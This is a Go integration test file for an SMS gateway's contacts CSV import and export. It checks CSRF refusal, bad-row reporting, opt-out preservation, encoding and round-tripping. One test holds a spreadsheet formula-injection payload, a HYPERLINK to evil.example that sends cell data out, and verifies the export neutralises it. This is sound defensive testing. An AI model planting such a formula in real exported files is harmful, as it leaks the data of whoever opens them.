package test

import (
	"bytes"
	"encoding/csv"
	"html"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// csvSession is a dashboard session of the real binary.
type csvSession struct {
	t    *testing.T
	g    *Gateway
	c    *http.Client
	csrf string
}

func csvLogin(t *testing.T, g *Gateway) *csvSession {
	t.Helper()
	s := &csvSession{t: t, g: g, c: dashClient(t)}
	if res, _ := dashDo(t, s.c, http.MethodPost, g.URL+"/admin/login", url.Values{"token": {AdminToken}, "next": {"/admin/contacts/import"}}); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("login: %d", res.StatusCode)
	}
	_, page := s.get("/admin/contacts/import")
	m := csrfField.FindStringSubmatch(page)
	if m == nil {
		t.Fatalf("no CSRF token on the import page:\n%s", page)
	}
	s.csrf = m[1]
	return s
}

func (s *csvSession) get(path string) (*http.Response, string) {
	s.t.Helper()
	return dashDo(s.t, s.c, http.MethodGet, s.g.URL+path, nil)
}

// apply applies the upload at loc and returns its page once it says the
// import was applied.
func (s *csvSession) apply(loc string) string {
	s.t.Helper()
	if res, _ := dashDo(s.t, s.c, http.MethodPost, s.g.URL+loc+"/apply", url.Values{"csrf": {s.csrf}}); res.StatusCode != http.StatusSeeOther {
		s.t.Fatalf("apply: %d", res.StatusCode)
	}
	var page string
	Eventually(s.t, patience, "the import applied", func() bool {
		_, page = s.get(loc)
		return strings.Contains(page, "<h1>Import applied</h1>")
	})
	return page
}

// upload posts file as the import form does, with the CSRF token unless
// csrf is empty; it returns the answer and, after a redirect, where it
// leads and the page there, else the page answered.
func (s *csvSession) upload(file, csrf string) (*http.Response, string, string) {
	s.t.Helper()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	if csrf != "" {
		w.WriteField("csrf", csrf)
	}
	part, _ := w.CreateFormFile("file", "contacts.csv")
	part.Write([]byte(file))
	w.Close()
	req, _ := http.NewRequest(http.MethodPost, s.g.URL+"/admin/contacts/import", &body)
	req.Header.Set("Content-Type", w.FormDataContentType())
	res, err := s.c.Do(req)
	if err != nil {
		s.t.Fatal(err)
	}
	answered, err := io.ReadAll(res.Body)
	res.Body.Close()
	if err != nil {
		s.t.Fatal(err)
	}
	if res.StatusCode != http.StatusSeeOther {
		return res, "", string(answered)
	}
	loc := res.Header.Get("Location")
	_, page := s.get(loc)
	return res, loc, page
}

var (
	csvProblemRow = regexp.MustCompile(`<tr><td data-label="Line">(\d+)</td><td data-label="Phone">([^<]*)</td><td data-label="Why">([^<]*)</td></tr>`)
	// importHeaderProblem is what the page says of a header it refused.
	importHeaderProblem = regexp.MustCompile(`<p class="problem" id="import-header">([^<]*)</p>`)
	csvCount            = func(page, what string) string {
		m := regexp.MustCompile(`<dt>` + what + `</dt><dd>(?:<span[^>]*>)?(\d+|none)`).FindStringSubmatch(page)
		if m == nil {
			return "?"
		}
		return m[1]
	}
)

// The contacts CSV through the binary: an upload's preview lists every
// bad row with its line (a quoted cell over two lines counted) and why,
// and what the good ones change; applying it changes the contacts by the
// admin API's rules (a contact that opted out itself stays out); the
// export, by the dashboard and the API, holds them and imports back as no
// change; the overview counts the opt-outs, by STOP and by import; a
// form without the CSRF token is refused.
func TestContactsCSVImportAndExport(t *testing.T) {
	t.Parallel()
	g := StartGateway(t, adminConfig)
	const ann, bob = "+15552220201", "+15552220202"
	if code := g.Admin(http.MethodPut, "/api/v1/contacts/"+ann, map[string]any{
		"name": "Ann", "groups": []string{"newsletter"}, "fields": map[string]string{"city": "Lyon"},
	}, nil); code != http.StatusCreated {
		t.Fatalf("PUT ann: %d", code)
	}
	g.Text(Inbound{From: bob, Body: "STOP"})
	g.Settled(t, bob)

	s := csvLogin(t, g)
	file := "phone,name,groups,tags,opted_out,city\n" +
		ann + ",Ann Lee,newsletter;vip,,,Paris\n" + // 2: changed
		"+15552220203,Cleo,,,no,\n" + // 3: new
		"not a phone,X,,,,\n" + // 4: bad phone
		"+15552220204,Dan,gold,,,\n" + // 5: unknown group
		"+15552220205,Eve,,,maybe,\n" + // 6: bad opted_out
		bob + ",,,,false,\n" + // 7: opted out himself
		"+15552220206,\"Fay\nFarrow\",,vip,true,\n" + // 8-9: new, opted out
		"+1555,Gus,,,,\n" // 10: bad phone

	// Without the CSRF token: refused, nothing kept.
	if res, _, _ := s.upload(file, ""); res.StatusCode != http.StatusForbidden {
		t.Fatalf("upload without the CSRF token: %d, want 403", res.StatusCode)
	}

	_, loc, page := s.upload(file, s.csrf)
	if !strings.HasPrefix(loc, "/admin/contacts/import/") {
		t.Fatalf("upload went to %q:\n%s", loc, page)
	}
	var bad []string
	for _, m := range csvProblemRow.FindAllStringSubmatch(page, -1) {
		bad = append(bad, m[1]+" "+m[3])
	}
	wantBad := []string{"4 bad phone", "5 unknown group", "6 opted_out", "7 opted_out false for a contact that opted out itself", "10 bad phone"}
	if len(bad) != len(wantBad) {
		t.Fatalf("bad rows:\n%s\nwant lines 4, 5, 6, 7, 10", strings.Join(bad, "\n"))
	}
	for i, w := range wantBad {
		if !strings.HasPrefix(html.UnescapeString(bad[i]), w) {
			t.Errorf("bad row %d: %q, want %q…", i, bad[i], w)
		}
	}
	for what, want := range map[string]string{"Rows": "8", "New contacts": "2", "Changed contacts": "1", "Bad rows": "5", "Unchanged": "0"} {
		if got := csvCount(page, what); got != want {
			t.Errorf("preview %s: %s, want %s", what, got, want)
		}
	}
	for _, want := range []string{"name: Ann → Ann Lee", "groups: + vip", "city: Lyon → Paris"} {
		if !strings.Contains(html.UnescapeString(page), want) {
			t.Errorf("the preview lacks %q", want)
		}
	}
	// The preview changed nothing.
	var got struct {
		Contact struct {
			Name     string            `json:"name"`
			Groups   []string          `json:"groups"`
			Fields   map[string]string `json:"fields"`
			OptedOut bool              `json:"opted_out"`
		} `json:"contact"`
	}
	if g.Admin(http.MethodGet, "/api/v1/contacts/"+ann, nil, &got); got.Contact.Name != "Ann" {
		t.Fatalf("after the preview ann is %+v", got.Contact)
	}

	// Apply, without and with the token.
	if res, _ := dashDo(t, s.c, http.MethodPost, g.URL+loc+"/apply", url.Values{}); res.StatusCode != http.StatusForbidden {
		t.Fatalf("apply without the CSRF token: %d, want 403", res.StatusCode)
	}
	page = s.apply(loc)
	if !strings.Contains(page, "<strong>3</strong> rows applied (2 new contacts), <strong>5</strong> bad rows skipped, of 8") {
		t.Errorf("result:\n%s", page)
	}
	if g.Admin(http.MethodGet, "/api/v1/contacts/"+ann, nil, &got); got.Contact.Name != "Ann Lee" || !slices.Equal(got.Contact.Groups, []string{"newsletter", "vip"}) || got.Contact.Fields["city"] != "Paris" {
		t.Errorf("ann after the import: %+v", got.Contact)
	}
	if g.Admin(http.MethodGet, "/api/v1/contacts/%2B15552220206", nil, &got); got.Contact.Name != "Fay\nFarrow" || !got.Contact.OptedOut {
		t.Errorf("fay after the import: %+v", got.Contact)
	}
	if g.Admin(http.MethodGet, "/api/v1/contacts/"+bob, nil, &got); !got.Contact.OptedOut {
		t.Errorf("bob, who sent STOP, was opted back in by the import")
	}
	if code := g.Admin(http.MethodGet, "/api/v1/contacts/%2B15552220204", nil, nil); code != http.StatusNotFound {
		t.Errorf("dan, a bad row, exists: %d", code)
	}

	// The export: the API's and the dashboard's are the same file, every
	// contact in phone order, the fields of the config as columns.
	code, apiCSV := adminRaw(t, g.URL, http.MethodGet, "/api/v1/contacts.csv", "", map[string]string{"Authorization": "Bearer " + AdminToken})
	if code != http.StatusOK {
		t.Fatalf("GET /api/v1/contacts.csv: %d", code)
	}
	res, dashCSV := s.get("/admin/contacts.csv")
	if res.StatusCode != http.StatusOK || dashCSV != apiCSV || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("the dashboard's export: %d %s\n%s\nwant the API's:\n%s", res.StatusCode, res.Header.Get("Content-Type"), dashCSV, apiCSV)
	}
	records, err := csv.NewReader(strings.NewReader(apiCSV)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var rows []string
	for _, r := range records {
		rows = append(rows, strings.Join(r, "|"))
	}
	want := []string{
		"phone|name|groups|tags|opted_out|first_name|city",
		ann + "|Ann Lee|newsletter;vip||false||Paris",
		bob + "||||true||",
		"+15552220203|Cleo|||false||",
		"+15552220206|Fay\nFarrow||vip|true||",
	}
	if !slices.Equal(rows, want) {
		t.Errorf("export:\n%s\nwant:\n%s", strings.Join(rows, "\n"), strings.Join(want, "\n"))
	}

	// The export imports back as no change at all.
	_, _, page = s.upload(apiCSV, s.csrf)
	for what, want := range map[string]string{"Rows": "4", "New contacts": "0", "Changed contacts": "0", "Unchanged": "4", "Bad rows": "none"} {
		if got := csvCount(page, what); got != want {
			t.Errorf("the export imported back: %s %s, want %s", what, got, want)
		}
	}

	// The overview counted both opt-outs (STOP and the import) and Bob's
	// message, on today's row.
	_, page = s.get("/admin/overview")
	total := regexp.MustCompile(`<tfoot><tr><th scope="row">30 days</th><td>(\d+)</td><td>(\d+)</td><td>(\d+)</td><td>(\d+)</td>`).FindStringSubmatch(page)
	if total == nil || total[1] != "1" || total[3] != "2" {
		t.Errorf("overview totals (in, out, opt-outs, failed): %v, want 1 in and 2 opt-outs", total)
	}
}

// An import records who applied it on each contact it wrote: the
// contact's page says so, with the user's name, and the admin
// API returns it as imported.by.
func TestContactsCSVImportRecordsWho(t *testing.T) {
	t.Parallel()
	g := StartGatewayUsers(t, usersYAML(t, "Ann:admin:ann-password"), adminConfig)
	const cleo = "+15552220211"
	c, csrf := loginUser(t, g, "Ann", "ann-password")
	s := &csvSession{t: t, g: g, c: c, csrf: csrf}
	_, loc, _ := s.upload("phone,name\n"+cleo+",Cleo\n", s.csrf)
	if !strings.HasPrefix(loc, "/admin/contacts/import/") {
		t.Fatalf("upload went to %q", loc)
	}
	s.apply(loc)
	var got struct {
		Contact struct {
			Name     string `json:"name"`
			Imported struct {
				By string `json:"by"`
			} `json:"imported"`
		} `json:"contact"`
	}
	if g.Admin(http.MethodGet, "/api/v1/contacts/"+cleo, nil, &got); got.Contact.Name != "Cleo" || got.Contact.Imported.By != "Ann" {
		t.Errorf("cleo after Ann's import: %+v, want her name and imported.by Ann", got.Contact)
	}
	if _, page := s.get("/admin/contacts/" + url.PathEscape(cleo)); !regexp.MustCompile(`<dt>Imported</dt><dd id="imported">by <span class="by">Ann</span> on 20`).MatchString(page) {
		t.Errorf("cleo's page does not say who imported her:\n%s", page)
	}
}

// A row with fewer cells than the header, or more, is a bad row with its
// line, and changes nothing: a cell missing would otherwise read as empty
// and clear the contact's name, groups, tags and fields. Blank lines and
// a quoted cell over two lines are read as before.
func TestContactsCSVRowOfOtherWidth(t *testing.T) {
	t.Parallel()
	g := StartGateway(t, adminConfig)
	const ann, cy = "+15552220221", "+15552220223"
	if code := g.Admin(http.MethodPut, "/api/v1/contacts/"+ann, map[string]any{
		"name": "Ann", "groups": []string{"newsletter"}, "tags": []string{"vip"}, "fields": map[string]string{"first_name": "Ann", "city": "Lyon"},
	}, nil); code != http.StatusCreated {
		t.Fatalf("PUT ann: %d", code)
	}
	s := csvLogin(t, g)
	file := "phone,name,groups,tags,opted_out,first_name,city\n" +
		ann + "\n" + // 2: one cell
		"\n" + // 3: blank
		"+15552220222,Bea,,,,Bea,Lyon,extra\n" + // 4: eight cells
		cy + ",\"Cy\nCyrus\",vip,,,,\n" + // 5-6: new
		"+15552220224,Dee\n" // 7: two cells
	_, loc, page := s.upload(file, s.csrf)
	if !strings.HasPrefix(loc, "/admin/contacts/import/") {
		t.Fatalf("upload went to %q:\n%s", loc, page)
	}
	var bad []string
	for _, m := range csvProblemRow.FindAllStringSubmatch(page, -1) {
		bad = append(bad, html.UnescapeString(m[1]+" "+m[2]+" "+m[3]))
	}
	wantBad := []string{
		"2 " + ann + " 1 cell, but the header has 7",
		"4 +15552220222 8 cells, but the header has 7",
		"7 +15552220224 2 cells, but the header has 7",
	}
	if len(bad) != len(wantBad) {
		t.Fatalf("bad rows:\n%s\nwant lines 2, 4 and 7", strings.Join(bad, "\n"))
	}
	for i, w := range wantBad {
		if !strings.HasPrefix(bad[i], w) {
			t.Errorf("bad row %d: %q, want %q…", i, bad[i], w)
		}
	}
	for what, want := range map[string]string{"Rows": "4", "New contacts": "1", "Changed contacts": "0", "Unchanged": "0", "Bad rows": "3"} {
		if got := csvCount(page, what); got != want {
			t.Errorf("preview %s: %s, want %s", what, got, want)
		}
	}
	page = s.apply(loc)
	if !strings.Contains(page, "<strong>1</strong> rows applied (1 new contacts), <strong>3</strong> bad rows skipped, of 4") {
		t.Errorf("result:\n%s", page)
	}
	if c := g.Contact(ann).Contact; c.Name != "Ann" || !slices.Equal(c.Groups, []string{"newsletter"}) || !slices.Equal(c.Tags, []string{"vip"}) ||
		c.Fields["first_name"] != "Ann" || c.Fields["city"] != "Lyon" {
		t.Errorf("ann after the import: %+v, want her as she was", c)
	}
	if code := g.Admin(http.MethodGet, "/api/v1/contacts/%2B15552220222", nil, nil); code != http.StatusNotFound {
		t.Errorf("the long row's contact exists: %d", code)
	}
	if c := g.Contact(cy).Contact; c.Name != "Cy\nCyrus" {
		t.Errorf("cy after the import: %+v", c)
	}
}

// A file that cannot be applied at all, for its header, is refused at
// once: 422 with the page that says why, as the dashboard's other
// refused forms are, and nothing kept or changed.
func TestContactsCSVRefusedHeader(t *testing.T) {
	t.Parallel()
	g := StartGateway(t, adminConfig)
	s := csvLogin(t, g)
	for _, c := range []struct{ name, file, want string }{
		{"empty", "", "The file is empty"},
		{"no phone column", "name,city\nAnn,Lyon\n", "line 1: no phone column"},
		{"unknown column", "phone,town\n+15552220231,Lyon\n", `line 1: column 2 "town" is none of`},
	} {
		res, loc, page := s.upload(c.file, s.csrf)
		if res.StatusCode != http.StatusUnprocessableEntity || loc != "" {
			t.Errorf("%s: %d to %q, want 422 with the page", c.name, res.StatusCode, loc)
			continue
		}
		m := importHeaderProblem.FindStringSubmatch(page)
		if m == nil || !strings.HasPrefix(html.UnescapeString(m[1]), c.want) || !strings.Contains(page, `href="/admin/contacts/import"`) {
			t.Errorf("%s: the page does not say %q nor offer another upload:\n%s", c.name, c.want, page)
		}
	}
	if code := g.Admin(http.MethodGet, "/api/v1/contacts/%2B15552220231", nil, nil); code != http.StatusNotFound {
		t.Errorf("a contact of a refused file exists: %d", code)
	}
}

// A file a spreadsheet saved in Windows-1252 (Excel's "CSV" on Windows),
// not UTF-8, imports its accented names and fields as written, not as
// replacement characters; a UTF-8 file beside it reads as before.
func TestContactsCSVInWindows1252(t *testing.T) {
	t.Parallel()
	g := StartGateway(t, adminConfig)
	s := csvLogin(t, g)
	const zoe, rene = "+15552220231", "+15552220232"
	file := "phone,name,city\n" + zoe + ",Zo\xeb M\xfcller,Z\xfcrich\n" + rene + ",Ren\xe9 \x80uro,\n"
	_, loc, page := s.upload(file, s.csrf)
	if !strings.HasPrefix(loc, "/admin/contacts/import/") {
		t.Fatalf("upload went to %q:\n%s", loc, page)
	}
	s.apply(loc)
	if c := g.Contact(zoe).Contact; c.Name != "Zoë Müller" || c.Fields["city"] != "Zürich" {
		t.Errorf("Zoë read as %q in %q", c.Name, c.Fields["city"])
	}
	if c := g.Contact(rene).Contact; c.Name != "René €uro" {
		t.Errorf("René read as %q", c.Name)
	}
	_, loc, _ = s.upload("phone,name\n"+zoe+",Zoë Müller\n", s.csrf)
	if page := s.apply(loc); !strings.Contains(page, "Import applied") {
		t.Fatalf("UTF-8 upload:\n%s", page)
	}
	if c := g.Contact(zoe).Contact; c.Name != "Zoë Müller" {
		t.Errorf("a UTF-8 name read as %q", c.Name)
	}
}

// What a contact texts can end up in the export (an answer saved in a
// field), and a spreadsheet must not run it: a cell that starts like a
// formula is exported with an apostrophe before it, the phone numbers stay
// as they are, and the file imports back as no change.
func TestContactsCSVExportKeepsFormulasInert(t *testing.T) {
	t.Parallel()
	g := StartGateway(t, `
fields: [city]
automations:
  - id: city
    keywords: [CITY]
    steps:
      - { type: reply, text: "Which city?" }
      - { type: wait_for_reply, timeout: 1h, save_as: city }
      - { type: set_field, fields: { city: "{{ vars.city }}" } }
      - { type: reply, text: "Noted." }
`)
	const eve = "+15552220301"
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Open")`
	g.Text(Inbound{From: eve, Body: "CITY"})
	g.Text(Inbound{From: eve, Body: formula})
	repliesTo(t, g, eve, 2)
	if c := g.Contact(eve); c.Contact.Fields["city"] != formula {
		t.Fatalf("the answer was not saved: %+v", c.Contact)
	}
	code, export := adminRaw(t, g.URL, http.MethodGet, "/api/v1/contacts.csv", "", map[string]string{"Authorization": "Bearer " + AdminToken})
	if code != http.StatusOK {
		t.Fatalf("GET /api/v1/contacts.csv: %d", code)
	}
	records, err := csv.NewReader(strings.NewReader(export)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"phone", "name", "groups", "tags", "opted_out", "city"}, {eve, "", "", "", "false", "'" + formula}}
	if len(records) != len(want) || !slices.Equal(records[0], want[0]) || !slices.Equal(records[1], want[1]) {
		t.Fatalf("export:\n%q\nwant:\n%q", records, want)
	}
	s := csvLogin(t, g)
	_, _, page := s.upload(export, s.csrf)
	for what, want := range map[string]string{"Rows": "1", "Changed contacts": "0", "Unchanged": "1", "Bad rows": "none"} {
		if got := csvCount(page, what); got != want {
			t.Errorf("the export imported back: %s %s, want %s", what, got, want)
		}
	}
}

// A tag holding "," or ";" survives the export and an import of it: the
// export writes such a cell as a JSON list, which the import reads back
// as the same tags, where splitting it would have changed the contact.
func TestContactsCSVTagWithSeparatorReadsBack(t *testing.T) {
	t.Parallel()
	g := StartGateway(t, adminConfig)
	const ann = "+15552220211"
	if code := g.Admin(http.MethodPut, "/api/v1/contacts/"+ann, map[string]any{"name": "Ann", "tags": []string{"vip, gold", "a;b", "new"}}, nil); code != http.StatusCreated {
		t.Fatalf("PUT ann: %d", code)
	}
	code, export := adminRaw(t, g.URL, http.MethodGet, "/api/v1/contacts.csv", "", map[string]string{"Authorization": "Bearer " + AdminToken})
	if code != http.StatusOK {
		t.Fatalf("GET /api/v1/contacts.csv: %d", code)
	}
	records, err := csv.NewReader(strings.NewReader(export)).ReadAll()
	if err != nil || len(records) != 2 || records[1][3] != `["vip, gold","a;b","new"]` {
		t.Fatalf("export (%v):\n%s", err, export)
	}
	s := csvLogin(t, g)
	_, _, page := s.upload(export, s.csrf)
	for what, want := range map[string]string{"Rows": "1", "Changed contacts": "0", "Unchanged": "1", "Bad rows": "none"} {
		if got := csvCount(page, what); got != want {
			t.Errorf("the export imported back: %s %s, want %s:\n%s", what, got, want, page)
		}
	}
}
